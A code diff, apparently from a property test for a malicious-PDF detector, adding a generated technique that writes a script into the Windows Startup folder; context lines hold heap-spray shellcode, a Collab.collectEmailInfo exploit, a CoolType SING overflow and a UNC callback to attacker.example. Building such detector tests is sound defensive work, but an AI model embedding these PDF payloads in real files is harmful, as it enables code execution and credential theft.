@@ -1,4 +1,4 @@
-// Property (issue 18): a document with a /Launch, an automatic callback or a proven exploit never comes
+// Property (issue 18): a document with a /Launch, an automatic callback, a dropped program or a proven exploit never comes
 // out benign, whatever benign structure surrounds it. Documents are generated from a seeded PRNG: a mix
 // of ordinary parts (pages of text, images, links to websites, outlines, a form with formatting scripts,
 // notes, metadata, an XML attachment, cross-reference streams, an incremental update) plus exactly one
@@ -65,6 +65,7 @@ const TECHNIQUES: readonly [name: string, (r: Rand, p: Parts) => void][] = [
   ["UNC path opened on page open", (_r, p) => p.page.push(`/AA << /O << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>`)],
   ["shellcode spray on open", (_r, p) => p.catalog.push(`/OpenAction << /S /JavaScript /JS ${hexString(`var sc = unescape("${SLED}${SHELLCODE}"); var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s;`)} >>`)],
   ["Collab.collectEmailInfo exploit", (_r, p) => p.catalog.push(`/OpenAction << /S /JavaScript /JS ${hexString('var m = unescape("%u0c0c"); while (m.length < 0x4000) m += m; Collab.collectEmailInfo({subj: "", msg: m});')} >>`)],
+  ["script writes a program into the Startup folder", (r, p) => p.catalog.push(`/OpenAction << /S /JavaScript /JS ${hexString(`this.${pick(r, ["saveAs", "exportXFAData"])}({ cPath: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/${pick(r, ["update.hta", "sync.js", "notes.txt"])}", bXDP: false });`)} >>`)],
   ["CoolType SING overflow", (_r, p) => p.setup.push((b) => {
     const file = b.addStream("", sfntFont("SING", "A".repeat(28)));
     const fd = b.add(`<< /Type /FontDescriptor /FontName /X /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 ${file} 0 R >>`);
